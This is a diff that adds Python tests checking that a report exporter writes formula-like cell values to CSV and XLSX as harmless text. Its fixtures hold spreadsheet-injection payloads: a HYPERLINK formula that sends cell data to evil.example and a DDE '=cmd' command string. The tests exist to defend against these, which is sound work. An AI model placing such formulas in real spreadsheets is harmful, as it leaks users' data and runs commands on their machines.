@@ -224,3 +224,40 @@ def test_to_html_writes_utf8(tmp_path: Path, table: Table) -> None:
     to_html(table, path, title="Rapport för Dalarna", generated_on=D(2024, 7, 1))
     page = path.read_text(encoding="utf-8")
     assert "<title>Rapport för Dalarna</title>" in page and "Skapad 2024-07-01" in page
+
+
+# --- nothing a spreadsheet program would run ------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Falu kommun")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def formula_table() -> Table:
+    facts = [f for i, name in enumerate(FORMULAS) for f in many(10 * i + 1, 6, organisation=name)]
+    return build_table(facts, dimensions=["organisation"], as_of=AS_OF, labels=LABELS,
+                       measures=("enrolled",), title="=cmd|' /C calc'!A0")
+
+
+def test_csv_cells_never_start_like_a_formula() -> None:
+    stream = io.StringIO()
+    to_csv(formula_table(), stream)
+    rows = list(csv.reader(io.StringIO(stream.getvalue().lstrip("\ufeff"), newline=""), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    organisations = {row[0] for row in rows[1:7]}
+    assert organisations == {"'" + name for name in FORMULAS}      # shown as text, nothing lost
+
+
+def test_xlsx_writes_formula_like_text_as_string_cells(tmp_path: Path) -> None:
+    path = tmp_path / "t.xlsx"
+    to_xlsx(formula_table(), path)
+    import zipfile
+
+    with zipfile.ZipFile(path) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet                # no formula anywhere in the sheet
+    ws = openpyxl.load_workbook(path).active
+    assert ws["A1"].value == "=cmd|' /C calc'!A0" and ws["A1"].data_type == "s"
+    names = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=1) for r in range(3, 9)}
+    assert set(names) == {name.replace("\r", "\n") for name in FORMULAS}   # XML reads a CR back as LF
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names.values())
